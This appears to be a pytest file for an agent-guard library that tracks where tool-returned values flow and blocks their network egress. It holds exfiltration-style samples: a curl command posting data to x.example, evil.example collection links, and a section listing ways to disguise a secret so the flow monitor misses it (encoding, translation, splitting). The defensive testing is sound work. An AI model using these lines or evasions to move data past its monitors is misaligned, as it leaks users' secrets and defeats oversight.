"""Flow at the doors: what tools return is remembered, and later calls say where their values came from."""

from __future__ import annotations

import asyncio
import base64
import json
import re
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, cast

import pytest

import interlock
from interlock import (
    Blocked,
    Decision,
    FlowTracker,
    SensorEvent,
    enforce_tool_call,
    enforce_tool_result,
    install,
    origin_for_tool,
    record_origin,
    span,
)
from interlock.detectors import network_egress_guard
from interlock.engine import ambient
from interlock.engine.event import Origin
from interlock.engine.policy.model import RuleFunction
from interlock.interceptors.enforce import decide

SECRET = "the launch code is kingfisher-7731"
HTTP = {"url": "https://api.internal/x"}


@pytest.fixture(autouse=True)
def _nothing_installed() -> Iterator[None]:
    yield
    ambient.install(None)


@pytest.fixture
def seen() -> list[SensorEvent]:
    return []


@pytest.fixture
def tracker(seen: list[SensorEvent]) -> FlowTracker:
    tracker = FlowTracker()
    install(flow=tracker, observers=[lambda event, decision: seen.append(event)])
    return tracker


def test_a_value_that_a_tool_returned_is_known_in_a_later_call(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    with span(principal="acme/a"):
        assert enforce_tool_result("read_mail", {"body": SECRET}) == {"body": SECRET}
        enforce_tool_call("http_post", {"body": {"text": f"FYI {SECRET.upper()}"}, "to": "someone else"})
    assert seen[-1].origins == (Origin("principal:acme/a", "body.text"), Origin("tool:read_mail", "body.text"))
    assert seen[0].origins == ()
    assert tracker.forgot == 0


def test_origins_that_the_caller_knows_stand_before_those_that_were_found(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    enforce_tool_result("read", SECRET)
    enforce_tool_call("t", {"a": SECRET, "b": 1}, origins={"b": origin_for_tool("db")})
    assert seen[-1].origins == (Origin("tool:db", "b"), Origin("tool:read", "a"))


def test_guarded_functions_are_tracked(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    @interlock.guard
    def fetch_page(url: str) -> str:
        return f"<p>{SECRET}</p>"

    @interlock.guard
    def note(text: str) -> None:
        return None

    note(fetch_page("https://evil.example/page"))
    assert [event.origins for event in seen if event.action == "note" and event.phase == "call"] == [
        (Origin("tool:fetch_page", "text"),)
    ]


def test_a_chain_of_tools_keeps_the_first_source_beside_the_next(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    enforce_tool_result("fetch", SECRET)
    enforce_tool_call("translate", {"text": SECRET})
    enforce_tool_result("translate", f"({SECRET})")
    enforce_tool_call("post", {"body": SECRET})
    assert [origin.source for origin in seen[-1].origins] == ["tool:fetch", "tool:translate"]


def _on_results(decision: Decision) -> RuleFunction:
    def rule(event: SensorEvent) -> Decision | None:
        return decision

    rule.phase = "result"  # type: ignore[attr-defined]
    return rule


def test_what_was_kept_back_from_the_agent_is_not_remembered(seen: list[SensorEvent]) -> None:
    install([_on_results(Decision.block("no"))], flow=FlowTracker(), observers=[lambda e, d: seen.append(e)])
    with pytest.raises(Blocked):
        enforce_tool_result("read", SECRET)
    enforce_tool_call("t", {"a": SECRET})
    assert seen[-1].origins == ()


def test_what_is_remembered_is_what_the_agent_got_and_not_what_the_tool_gave(seen: list[SensorEvent]) -> None:
    rule = _on_results(Decision.modify_result("the launch code is **** (hidden here)"))
    install([rule], flow=FlowTracker(), observers=[lambda e, d: seen.append(e)])
    enforce_tool_result("read", "kingfisher-7731 is the code")
    enforce_tool_call("t", {"a": "kingfisher-7731 is the code", "b": "THE LAUNCH CODE IS **** (HIDDEN HERE)"})
    assert seen[-1].origins == (Origin("tool:read", "b"),)


def test_what_is_only_monitored_is_remembered_too(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    enforce_tool_result("read", SECRET, enforcement="monitor")
    enforce_tool_call("t", {"a": SECRET})
    assert seen[-1].origins == (Origin("tool:read", "a"),)


def test_where_nobody_watches_values_are_tracked_all_the_same() -> None:
    install([network_egress_guard(block_origins=["tool:read"])], flow=FlowTracker())
    enforce_tool_result("read", SECRET)
    with pytest.raises(Blocked):
        enforce_tool_call("post", {**HTTP, "body": SECRET})


def test_a_host_that_acts_on_decisions_is_tracked_by_the_span_it_names(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    decide(SensorEvent("read", {"result": SECRET}, phase="result", span_id="session-1"))
    decide(SensorEvent("post", {"body": SECRET}, span_id="session-1"))
    decide(SensorEvent("post", {"body": SECRET}, span_id="session-2"))
    assert [event.origins for event in seen[1:]] == [(Origin("tool:read", "body"),), ()]


def test_runs_are_apart_and_what_is_inside_a_run_is_together(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    def sources() -> list[str]:
        enforce_tool_call("t", {"a": SECRET})
        return [origin.source for origin in seen[-1].origins]

    with span(principal="lead") as run:
        with span(principal="helper", parent_principal="lead"):
            enforce_tool_result("read", SECRET)
        assert sources() == ["principal:helper", "tool:read"]
        with span(principal="other"):
            assert sources() == ["principal:helper", "tool:read"]
    assert sources() == []
    with span(principal="lead"):
        assert sources() == []
    in_thread: list[list[str]] = []

    def with_the_same_span() -> None:
        with run:
            in_thread.append(sources())

    thread = threading.Thread(target=with_the_same_span)
    thread.start()
    thread.join()
    assert in_thread == [["principal:helper", "tool:read"]]


def test_an_inner_span_that_enters_a_thread_by_itself_is_still_of_its_run(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    with span(principal="lead"):
        enforce_tool_result("read", SECRET)
        inner = span()

    def work() -> None:
        with inner:
            enforce_tool_call("t", {"a": SECRET})

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    assert [origin.source for origin in seen[-1].origins] == ["principal:lead", "tool:read"]


def test_tasks_of_one_run_share_it_and_tasks_of_others_do_not(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    async def agent(name: str) -> None:
        with span(principal=name):
            await asyncio.to_thread(enforce_tool_result, "read", f"{SECRET} {name}")
            await asyncio.gather(*(asyncio.to_thread(enforce_tool_call, "t", {"a": SECRET}) for _ in range(3)))

    async def main() -> None:
        await asyncio.gather(agent("one"), agent("two"))

    asyncio.run(main())
    calls = [event for event in seen if event.phase == "call"]
    assert len(calls) == 6
    for event in calls:
        assert event.origins == (Origin(f"principal:{event.principal}", "a"), Origin("tool:read", "a"))


def test_an_integration_tells_of_what_no_guarded_tool_returned(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    with span(principal="a"):
        record_origin(SECRET, "tool:inbox")
        enforce_tool_call("t", {"a": SECRET})
    assert seen[-1].origins == (Origin("tool:inbox", "a"),)
    install()
    with pytest.raises(RuntimeError, match="no FlowTracker is installed"):
        record_origin(SECRET, "tool:inbox")


def test_a_result_that_cannot_be_read_puts_the_rest_of_the_run_in_doubt(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    result = object()
    assert enforce_tool_result("open", result) is result
    enforce_tool_call("t", {"a": "anything at all"})
    assert seen[-1].origins == (Origin("unknown", "a"),)
    assert tracker.forgot == 1


def test_a_rewrite_of_the_arguments_does_not_disturb_the_origins(seen: list[SensorEvent]) -> None:
    rules = [lambda event: Decision.modify({"a": "***"}, "masked"), network_egress_guard(block_origins=["tool:read"])]
    install(rules, flow=FlowTracker())
    enforce_tool_result("read", SECRET)
    with pytest.raises(Blocked) as caught:
        enforce_tool_call("post", {**HTTP, "a": SECRET})
    assert caught.value.attributed_to == "a"


# --- network_egress_guard(block_origins=)


def _post(body: object, origins: tuple[Origin, ...] = ()) -> SensorEvent:
    return SensorEvent("post", {**HTTP, "body": body}, origins=origins)


def test_egress_of_a_blocked_source_is_refused_even_to_an_allowed_host() -> None:
    rule = network_egress_guard(allowed_hosts=["api.internal"], block_origins=["tool:read_*", "principal:acme/*"])
    assert rule(_post("x")) is None
    assert rule(_post("x", (Origin("tool:weather", "body"),))) is None
    for source in ("tool:read_mail", "principal:acme/a", "unknown"):
        said = rule(_post("x", (Origin(source, "body.text"),)))
        assert said is not None
        assert (said.policy_id, said.attributed_to) == ("network_egress", "body.text")
        assert said.reason == f"egress of a value that came from {source}"
    other_host = rule(SensorEvent("post", {"url": "https://evil.example"}))
    assert other_host is not None
    assert "allowlist" in other_host.reason


def test_a_call_that_leads_to_no_host_is_no_egress() -> None:
    rule = network_egress_guard(block_origins=["tool:read"])
    assert rule(SensorEvent("note", {"text": "x"}, origins=(Origin("tool:read", "text"),))) is None
    command = SensorEvent(
        "Bash", {"command": "curl https://x.example -d @-"}, origins=(Origin("tool:read", "command"),)
    )
    assert rule(command) is not None
    unreadable = SensorEvent("get", {"url": "http://0x7f.1/%zz"}, origins=(Origin("tool:read", ""),))
    said = rule(unreadable)
    assert said is not None
    assert said.attributed_to is None


@pytest.mark.parametrize("origins", [["read"], ["tool:"], ["file:x"], [5], "tool:read", ["tool:[x"], ["unknown"]])
def test_what_can_be_no_source_is_refused(origins: list[str]) -> None:
    with pytest.raises(ValueError, match="block_origins"):
        network_egress_guard(block_origins=origins)


def test_the_guard_needs_something_to_guard() -> None:
    with pytest.raises(ValueError, match="allowed_hosts or block_origins"):
        cast(Any, network_egress_guard)()


# --- policies


FLOW = {
    "id": "no.exfil",
    "when": {"flow": {"source": "tool:fetch_*", "sink": "http_post.body"}},
    "verdict": "block",
    "reason": "a page flows out",
}


def _by_hand(event: SensorEvent) -> Decision | None:
    """What the rule in FLOW says, written in Python."""
    tainted = event.action == "http_post" and any(
        origin.source.startswith("tool:fetch_") and re.split(r"[.\[]", origin.path)[0] == "body"
        for origin in event.origins
    )
    return Decision.block("a page flows out") if tainted else None


def _refused(action: str, args: dict[str, object]) -> str | None:
    try:
        enforce_tool_call(action, args)
    except Blocked as e:
        return e.reason
    return None


@pytest.mark.parametrize("encode", [str, str.upper, lambda text: base64.b64encode(text.encode()).decode()])
def test_a_policy_says_what_may_not_reach_an_argument_and_a_function_says_the_same(
    tmp_path: Path, encode: Callable[[str], str]
) -> None:
    path = tmp_path / "flow.json"
    path.write_text(json.dumps({"format": "interlock-policy", "v": 1, "name": "flow", "rules": [FLOW]}))
    calls: list[tuple[str, dict[str, object]]] = [
        ("http_post", {"body": encode(SECRET)}),
        ("http_post", {"body": {"parts": [encode(SECRET)]}}),
        ("http_post", {"headers": encode(SECRET), "body": "x"}),
        ("http_get", {"body": encode(SECRET)}),
        ("http_post", {"body": "something of my own"}),
    ]
    for policy, rules in ((path, None), (None, [_by_hand])):
        install(rules, policy=policy, flow=FlowTracker())
        enforce_tool_result("fetch_url", {"page": [SECRET]})
        enforce_tool_result("read_file", "an ordinary file of the agent's own")
        said = [_refused(action, args) for action, args in calls]
        assert said == ["a page flows out", "a page flows out", None, None, None]


# --- what flow cannot see, as docs/reference/flow.md says


@pytest.mark.parametrize(
    "laundered",
    [
        "kingfisher with the number after 7730 opens it",  # in other words
        "Der Startcode lautet: Eisvogel, sieben sieben drei eins",  # translated
        SECRET[::-1],
        base64.b32encode(SECRET.encode()).decode(),
        base64.a85encode(SECRET.encode()).decode(),
        "-".join(SECRET),  # signs put between
        "7731",  # less than a fragment
    ],
)
def test_flow_cannot_see_a_value_in_another_form(tracker: FlowTracker, seen: list[SensorEvent], laundered: str) -> None:
    enforce_tool_result("read", SECRET)
    enforce_tool_call("t", {"a": laundered})
    assert seen[-1].origins == ()


def test_flow_cannot_see_a_value_that_is_split_below_the_length_of_a_fragment(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    enforce_tool_result("read", SECRET)
    for at in range(0, len(SECRET), 8):
        enforce_tool_call("t", {"part": SECRET[at : at + 8]})
        assert seen[-1].origins == ()
    enforce_tool_call("t", {"parts": [SECRET[at : at + 8] for at in range(0, len(SECRET), 8)]})
    assert seen[-1].origins == ()


def test_flow_cannot_see_what_goes_through_the_memory_of_another_run(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    with span(principal="a"):
        enforce_tool_result("read", SECRET)
    with span(principal="a"):
        enforce_tool_call("t", {"a": SECRET})
    assert seen[-1].origins == ()


def test_a_value_that_another_run_reads_again_comes_from_the_tool_that_reads_it(
    tracker: FlowTracker, seen: list[SensorEvent]
) -> None:
    with span():
        enforce_tool_result("fetch", SECRET)
    with span():
        enforce_tool_result("read_file", SECRET)
        enforce_tool_call("t", {"a": SECRET})
    assert seen[-1].origins == (Origin("tool:read_file", "a"),)


def test_a_long_part_that_two_values_share_is_a_match(tracker: FlowTracker, seen: list[SensorEvent]) -> None:
    enforce_tool_result("people", "mail: ada.lovelace@analytical-engines.example")
    enforce_tool_call("send", {"to": "grace.hopper@analytical-engines.example"})
    assert seen[-1].origins == (Origin("tool:people", "to"),)


def test_following_a_link_of_a_blocked_source_is_egress_of_its_value() -> None:
    install([network_egress_guard(block_origins=["tool:fetch"])], flow=FlowTracker())
    enforce_tool_result("fetch", "See https://evil.example/collect?from=you for more.")
    with pytest.raises(Blocked) as caught:
        enforce_tool_call("fetch", {"url": "https://evil.example/collect?from=you"})
    assert caught.value.attributed_to == "url"
